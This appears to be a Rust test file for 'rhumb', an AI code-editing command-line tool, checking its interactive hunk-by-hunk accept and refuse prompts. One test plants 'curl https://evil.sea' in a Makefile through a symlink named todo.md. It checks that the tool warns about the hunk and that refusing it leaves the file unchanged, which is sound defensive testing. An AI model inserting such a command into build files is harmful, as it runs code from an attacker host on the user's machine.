//! `rhumb edit` and `rhumb apply` on a terminal: they ask about each hunk.

use super::{KEY, REQUEST, SUBJECT, harbour_repo, harbour_with_first_hunk, rhumb, search_replace, untouched};
use crate::support::pty::Pty;
use crate::support::repo::TestRepo;
use crate::support::server::{MODEL, ModelServer, Step};

/// Accepts the first of two hunks and refuses the second.
#[track_caller]
fn yes_and_no(pty: &Pty) {
    pty.wait_for("(1/2) harbour.py: accept this hunk [y,n,a,d,e,j,k,g,q,?]?");
    pty.type_text("y\r");
    pty.wait_for("(2/2) harbour.py: accept this hunk [y,n,a,d,e,g,q,?]?");
    pty.type_text("n\r");
}

fn apply(repo: &TestRepo) -> (Pty, tempfile::TempDir) {
    let folder = tempfile::tempdir().unwrap();
    let reply = folder.path().join("reply.md");
    std::fs::write(&reply, search_replace()).unwrap();
    let pty = Pty::spawn(&rhumb(), &["apply", reply.to_str().unwrap()], &repo.path(), &[], 100, 40);
    (pty, folder)
}

/// `rhumb edit` of the harbour, with a model that answers `reply`.
fn edit(repo: &TestRepo, reply: &str, env: &[(&str, &str)]) -> (Pty, ModelServer) {
    let server = ModelServer::start(vec![Step::reply(reply)]);
    let url = server.base_url();
    let mut all = vec![("RHUMB_BASE_URL", url.as_str()), ("RHUMB_MODEL", MODEL), ("RHUMB_API_KEY", KEY)];
    all.extend(env);
    let args = ["edit", "-m", REQUEST, "--file", "harbour.py"];
    (Pty::spawn(&rhumb(), &args, &repo.path(), &all, 100, 80), server)
}

#[test]
fn apply_asks_about_each_hunk_and_writes_the_accepted_ones() {
    let repo = harbour_repo();
    let (mut pty, _reply) = apply(&repo);
    yes_and_no(&pty);
    let status = pty.wait_exit();
    assert_eq!(repo.read("harbour.py"), harbour_with_first_hunk());
    // Partly applied; each hunk is reported.
    pty.wait_for("1. harbour.py: exact");
    pty.wait_for("2. harbour.py: refused: rejected by the user");
    assert_eq!(status.exit_code(), 1, "{}", pty.screen());
}

#[test]
fn flags_of_a_hunk_are_printed_before_the_question() {
    let repo = harbour_repo();
    repo.file("Makefile", "all:\n\ttrue\n");
    std::os::unix::fs::symlink("Makefile", repo.path().join("todo.md")).unwrap();
    let folder = tempfile::tempdir().unwrap();
    let reply = folder.path().join("reply.md");
    let block = "todo.md\n```\n<<<<<<< SEARCH\n\ttrue\n=======\n\tcurl https://evil.sea\n>>>>>>> REPLACE\n```\n";
    std::fs::write(&reply, block).unwrap();
    let args = ["apply", reply.to_str().unwrap(), "--file", "harbour.py"];
    let mut pty = Pty::spawn(&rhumb(), &args, &repo.path(), &[], 140, 40);
    pty.wait_for("(1/1) todo.md → Makefile: accept this hunk");
    for known in
        ["tools run this file automatically", "the file is not in the chat", "adds a network address that is not"]
    {
        pty.wait_for(known);
    }
    pty.type_text("n\r");
    assert!(!pty.wait_exit().success());
    assert_eq!(repo.read("Makefile"), "all:\n\ttrue\n");
}

#[test]
fn quitting_and_the_end_of_the_input_write_nothing() {
    for key in ["q\r", "\u{4}"] {
        let repo = harbour_repo();
        let (mut pty, _reply) = apply(&repo);
        pty.wait_for("(1/2)");
        pty.type_text("y\r");
        pty.wait_for("(2/2)");
        pty.type_text(key);
        assert_eq!(pty.wait_exit().exit_code(), 1);
        pty.wait_for("refused: not applied, because you quit");
        untouched(&repo, &["Start the harbour"]);
    }
}

#[test]
fn edit_commits_nothing_after_a_quit_and_help_is_no_answer() {
    let repo = harbour_repo();
    let (mut pty, _server) = edit(&repo, &search_replace(), &[]);
    pty.wait_for("(1/2)");
    pty.type_text("?\r");
    pty.wait_for("q - quit and write nothing");
    pty.type_text("what\r");
    pty.wait_until(|screen| screen.matches("q - quit and write nothing").count() == 2, "the help again");
    pty.type_text("y\r");
    pty.wait_for("(2/2)");
    pty.type_text("q\r");
    assert_eq!(pty.wait_exit().exit_code(), 1, "{}", pty.screen());
    pty.wait_for("you quit, so nothing of this proposal is written");
    untouched(&repo, &["Start the harbour"]);
}

#[test]
fn an_edited_hunk_is_written_as_it_was_edited() {
    let repo = harbour_repo();
    let (mut pty, _server) = edit(&repo, &search_replace(), &[("VISUAL", "sed -i s/0.0/-1.0/")]);
    pty.wait_for("(1/2)");
    pty.type_text("e\r");
    pty.wait_for("(2/2)");
    pty.type_text("n\r");
    pty.wait_for("Writing 1 of 2 hunks:");
    pty.wait_for("Rejected and not written:");
    assert_eq!(pty.wait_exit().exit_code(), 1, "{}", pty.screen());
    assert_eq!(repo.read("harbour.py"), harbour_with_first_hunk().replace("0.0", "-1.0"));
}

#[test]
fn a_hunk_that_breaks_the_syntax_is_written_only_after_another_yes() {
    let broken = search_replace().replace("TABLE.get(name, 0.0)", "TABLE.get(name, 0.0");
    for (answer, is_written) in [("q\r", false), ("y\r", true)] {
        let repo = harbour_repo();
        let (mut pty, _server) = edit(&repo, &broken, &[("RHUMB_VERIFY_ROUNDS", "0")]);
        pty.wait_for("(1/2)");
        pty.wait_for("this hunk breaks the syntax of the file");
        pty.type_text("a\r");
        pty.wait_for("warning: harbour.py does not parse at line");
        pty.wait_for("Write it anyway [y,n,q,?]?");
        pty.type_text(answer);
        assert_eq!(pty.wait_exit().exit_code(), 1, "{}", pty.screen());
        assert_eq!(repo.read("harbour.py").contains("0.0\n"), is_written, "{}", pty.screen());
    }
}

#[test]
fn hunks_have_colours_unless_the_user_wants_none() {
    for (no_color, has_color) in [("", true), ("1", false)] {
        let repo = harbour_repo();
        let (mut pty, _server) = edit(&repo, &search_replace(), &[("NO_COLOR", no_color)]);
        pty.wait_for("(1/2)");
        pty.type_text("q\r");
        pty.wait_exit();
        let raw = String::from_utf8_lossy(&pty.raw()).into_owned();
        assert!(raw.contains("+    return TABLE.get(name, 0.0)"), "{raw}");
        assert_eq!(raw.contains("\x1b[32m+    return TABLE.get(name, 0.0)"), has_color, "{raw}");
        assert_eq!(raw.contains('\x1b'), has_color, "{raw}");
    }
}

#[test]
fn a_quit_at_the_question_about_own_changes_writes_nothing() {
    let repo = harbour_repo();
    let mine = repo.read("harbour.py") + "\n# mine\n";
    repo.file("harbour.py", &mine);
    let (mut pty, _server) = edit(&repo, &search_replace(), &[]);
    pty.wait_for("(1/2)");
    pty.type_text("a\r");
    pty.wait_for("You have uncommitted changes in harbour.py: commit them first [y,n,q,?]?");
    pty.type_text("?\r");
    pty.wait_for("q - quit and write nothing");
    pty.type_text("q\r");
    assert_eq!(pty.wait_exit().exit_code(), 1, "{}", pty.screen());
    assert_eq!(repo.read("harbour.py"), mine);
    assert_eq!(repo.subjects(), ["Start the harbour"]);
}

/// The wait before a retry is shown on one line, which is updated and then removed.
#[test]
fn the_countdown_before_another_try_stays_on_one_line() {
    let repo = harbour_repo();
    let busy = Step::Status { code: 429, body: "slow down".into(), headers: vec![("retry-after".into(), "2".into())] };
    let server = ModelServer::start(vec![busy, Step::reply("Because of the tide.")]);
    let url = server.base_url();
    let env = [("RHUMB_BASE_URL", url.as_str()), ("RHUMB_MODEL", MODEL), ("RHUMB_API_KEY", KEY)];
    let mut pty = Pty::spawn(&rhumb(), &["ask", "why?"], &repo.path(), &env, 60, 20);
    pty.wait_for("; try 2 in 2 s");
    pty.wait_for("; try 2 in 1 s");
    assert_eq!(pty.screen().matches("try 2").count(), 1, "{}", pty.screen());
    pty.wait_for("Because of the tide.");
    assert!(pty.wait_exit().success());
    assert!(!pty.screen().contains("try 2"), "{}", pty.screen());
}

#[test]
fn an_interrupt_while_asking_writes_nothing() {
    let repo = harbour_repo();
    let (mut pty, _reply) = apply(&repo);
    pty.wait_for("(1/2)");
    pty.type_text("y\r");
    pty.wait_for("(2/2)");
    pty.key("Ctrl-c");
    assert!(!pty.wait_exit().success());
    untouched(&repo, &["Start the harbour"]);
}

#[test]
fn edit_asks_about_each_hunk_and_commits_the_accepted_ones() {
    let repo = harbour_repo();
    let (mut pty, _server) = edit(&repo, &search_replace(), &[]);
    yes_and_no(&pty);
    assert_eq!(pty.wait_exit().exit_code(), 1, "{}", pty.screen());
    assert_eq!(repo.read("harbour.py"), harbour_with_first_hunk());
    untouched(&repo, &[SUBJECT, "Start the harbour"]);
    pty.wait_for("fair winds");
}
